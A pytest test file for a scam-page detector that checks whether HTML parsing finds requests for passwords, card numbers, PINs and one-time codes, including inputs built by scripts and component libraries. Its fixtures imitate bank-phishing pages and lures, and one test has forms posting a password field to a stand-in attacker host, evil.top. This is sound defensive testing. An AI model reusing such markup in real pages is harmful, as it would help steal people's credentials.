"""Inputs for secrets that no markup holds: scripts, templates, data and component libraries make them."""

import pytest

from scamtriage.parse.html.forms.digits import takes_digits
from tests.cost import least_cpu_s
from tests.parse.html.page_facts import read

PASSWORD = '{type:"password",placeholder:"Password"}'


@pytest.mark.parametrize(
    ("markup", "asks"),
    [
        (f'<script>React.createElement("div",null,React.createElement("input",{PASSWORD}))</script>', "password"),
        (f'<script type=module>i("form",{{children:[(0,a.jsx)("input",{PASSWORD})]}})</script>', "password"),
        ('<script>const f=()=>a("input",{type:"text",style:{top:1},placeholder:"Card number"})</script>', "card"),
        ('<script type=text/babel>const L=()=>(<input onChange={e=>set(e.target.value)} type="password"/>)</script>', "password"),
        ("<script type=text/x-template><form><input v-model=p type=password></form></script>", "password"),
        (
            "<script>customElements.define('x-l',class extends H{connectedCallback(){this.innerHTML=`<input type=password>`}})</script>",
            "password",
        ),
        ('<script>Formio.createForm(f,{components:[{type:"password",key:"pw",label:"Online banking password"}]})</script>', "bank-login"),
        ('<script type=application/json>{"fields":[{"name":"pw","type":"password"}]}</script>', "password"),
        ('<script>Swal.fire({title:"KBank",input:"password"})</script>', "password"),
        ('<script>send(prompt("Enter the OTP that we sent"))</script>', "otp"),
        ("<ion-input label=Password type=password></ion-input>", "password"),
        ("<sl-input label='Card number'></sl-input>", "card"),
        ("<el-input v-model=p show-password></el-input>", "password"),
        ("<otp-input length=6></otp-input>", "otp"),
        ("<x-pin label='Card PIN' length=6></x-pin>", "pin"),
        (f"<script>html=`<div>${{h('input',{PASSWORD})}}</div>`</script>", "password"),
    ],
)
def test_what_scripts_and_component_libraries_ask_for_is_asked(markup: str, asks: str) -> None:
    facts = read(f"<title>KBank</title><p>Welcome to the online service of the bank.</p>{markup}")
    assert asks in facts.asks


@pytest.mark.parametrize(
    "markup",
    [
        '<script>React.createElement("input",{type:"search",placeholder:"Search"})</script>',
        '<script>a("input",{type:"email",placeholder:"Your e-mail"})</script>',
        '<script>open("input", {once: true, password: "never asked"})</script>',
        '<pre>createElement("input",{type:"password"})</pre>',
        '<script type=application/json>{"code":"<input type=password>"}</script>',
        '<script>prompt("How many tickets?")</script>',
        "<mat-form-field><mat-label>Password policy</mat-label></mat-form-field>",
        "<password-strength-meter type=password></password-strength-meter>",
        "<icon-pin type=solid></icon-pin><note-pin name=pin label='Pin this note'></note-pin>",
        "<param-field name=card_number type=string label='Card number'></param-field>",
        """<script type=application/json>{"code":"h('input', {type: 'password', placeholder: 'Card PIN'})"}</script>""",
        """<script>self.__next_f.push([1,"h('input', {type: 'password', placeholder: 'Card PIN'})"])</script>""",
        """<script>self.__next_f.push([1,"()=> <div><input name='pin' placeholder='Card PIN'/></div>"])</script>""",
        """<script>const code=`h('input', {type: 'password'})`; // prompt('Your PIN')</script>""",
        """<script>const code=`html\\`<div>\\${h('input',{type:'password'})}</div>\\``</script>""",
        """<script>/* createElement("input", {type: "password"}) */ show()</script>""",
    ],
)
def test_what_asks_for_no_secret_or_only_shows_code_asks_for_none(markup: str) -> None:
    facts = read(f"<title>Garden club</title><p>Welcome to the club by the river, every Sunday.</p>{markup}")
    assert facts.asks == ()


def test_a_call_behind_strings_comments_and_expressions_is_one_that_runs() -> None:
    before = """var a=/["']/,b='don\\'t',c=s.replace(/'/g,"");/* it's "so */"""
    assert read(f"<title>KBank</title><script>{before}j('input',{PASSWORD})</script>").asks == ("password",)
    state = '<script>window.__NUXT__={"fields":[{"label":"Card PIN","type":"password"}]}</script>'
    assert read(f"<title>KBank</title>{state}").asks == ("pin",)


def test_a_page_of_few_words_whose_inputs_scripts_may_make_is_not_known() -> None:
    shell = f"<title>KBank</title><h1>KBank</h1><div id=app></div><script>h('input',{PASSWORD})</script>"
    assert read(shell).incomplete_because == "what its scripts write is not known before they run"


def test_an_input_that_a_script_may_make_does_not_show_that_the_page_is_all_there() -> None:
    shell = '<title>KBank</title><div id=app></div><script type=application/json>{"says":"%s","fields":[{"type":"password"}]}</script>'
    facts = read(shell % "Your account was restricted, please confirm who you are within a day.")
    assert (facts.asks, facts.text_from) == (("password",), "data")
    assert "restricted" in facts.text


@pytest.mark.parametrize(
    "words",
    [
        "Enter the 6-digit number that was sent to your phone",
        "กรุณากรอกรหัส 6 หลักที่ส่งไปยังโทรศัพท์ของท่าน",
        "Vui lòng nhập mã gồm 6 chữ số đã gửi đến điện thoại",
        "Masukkan kod 6 digit yang dihantar ke telefon anda",
        "Masukkan kode 6 angka yang dikirim ke ponsel Anda",
        "我们已向您的手机发送6位数字",
        "スマートフォンに送信した6桁の数字を入力",
        "휴대폰으로 보낸 6자리 숫자를 입력",
        "បញ្ចូលកូដ ៦ ខ្ទង់ដែលបានផ្ញើ",
    ],
)
def test_a_row_of_boxes_below_words_for_so_many_digits_takes_a_code(words: str) -> None:
    boxes = "<input maxlength=1 inputmode=numeric>" * 6
    assert read(f"<title>Bank</title><p>{words}</p><div>{boxes}</div>").asks == ("otp",)
    assert read(f"<title>Bank</title><p>{words}</p><input name=c maxlength=6>").asks == ("otp",)
    assert read(f"<title>Bank</title><p>{words}</p><input name=c maxlength=60>").asks in ((), ("phone",))


@pytest.mark.parametrize(
    "words", ["Enter your 6-digit postal code", "the last 4 digits of your card", "the 6-digit game number", "6位邀请码"]
)
def test_digits_of_something_else_are_no_code(words: str) -> None:
    assert not takes_digits([words, "Confirm"], sent=False)


@pytest.mark.parametrize(
    ("title", "words"),
    [
        ("ตรวจหวย สลากกินแบ่งรัฐบาล", "กรอกหมายเลข 6 หลักบนสลาก แล้วกดยืนยัน"),
        ("Dò vé số kiến thiết", "Nhập mã vé số 6 chữ số để dò kết quả"),
        ("Semak keputusan 4D", "Masukkan nombor 4 digit dan sahkan"),
        ("4D results checker", "Enter your 4-digit number"),
        ("복권 당첨 조회", "6자리 숫자를 입력하고 확인을 누르세요"),
        ("統一發票對獎", "輸入發票號碼8位數"),
        ("ពិនិត្យឆ្នោត", "បញ្ចូលលេខ 6 ខ្ទង់"),
        ("Register", "Confirm the 8-digit date of birth (DDMMYYYY)"),
        ("แจ้งเลขมิเตอร์น้ำ", "กรอกตัวเลข 5 หลักบนมิเตอร์ แล้วยืนยัน"),
        ("Numble", "Guess the 5-digit number"),
        ("ตรวจผลสอบ", "กรอกรหัสนักเรียน 5 หลัก"),
        ("Contact us", "Enter the 6 digits shown below"),
    ],
)
def test_boxes_for_a_ticket_a_meter_or_a_puzzle_take_no_code(title: str, words: str) -> None:
    boxes = "<input maxlength=1 inputmode=numeric>" * 6
    assert read(f"<title>{title}</title><h1>{title}</h1><p>{words}</p><div>{boxes}</div>").asks == ()


def test_boxes_for_how_many_are_none_for_a_code() -> None:
    def asked(box: str) -> tuple[str, ...]:
        return read(f"<title>Enamel pin shop</title><h1>Enamel pin shop</h1><p>Choose how many of each</p><div>{box * 6}</div>").asks

    assert asked("<input type=number min=0 max=9>") == ("pin",)
    assert asked("<input type=number min=0 max=9 value=1>") == asked("<input type=number min=1 max=9>") == ()


def test_a_check_of_who_one_is_above_a_row_of_boxes_says_what_they_take() -> None:
    boxes = "<input maxlength=1 inputmode=numeric>" * 6
    assert read(f"<title>ยืนยันตัวตน</title><p>กรอกตัวเลข 6 หลัก</p><div>{boxes}</div>").asks == ("otp",)
    parcel = f"<title>พัสดุของท่าน</title><p>กรอกรหัส 6 หลักที่ส่งไปยังโทรศัพท์</p><div>{boxes}</div>"
    assert read(parcel).asks == ("otp",)


def test_a_form_that_htmx_sends_goes_where_that_says_and_where_its_action_does() -> None:
    forms = read("<form action=/a hx-post=https://evil.top/p><input type=password></form>").forms
    assert [(form.action_host, form.method) for form in forms] == [("pay.shop-help.example", "get"), ("evil.top", "post")]
    hidden = read("<form method=post action=https://evil.top/p hx-post=/ok><input type=password></form>").forms
    assert "evil.top" in {form.action_host for form in hidden}
    assert [form.action_host for form in read("<form hx-post=https://evil.top/p><input type=password></form>").forms] == ["evil.top"]


@pytest.mark.parametrize(
    "piece",
    [
        '{type:"password",',
        'a("input",{',
        "<input {",
        "<x-input label=",
        '{"type":"password"}',
        "return <input type=password ",
        '("input",{type:"password"})/*',
        "`",
        "=/[",
    ],
)
def test_made_inputs_cost_a_page_little(piece: str) -> None:
    page = f"<script>customElements.define;{piece * (400_000 // len(piece))}</script>"
    assert least_cpu_s(lambda: read(page), within=1.0) < 1.0
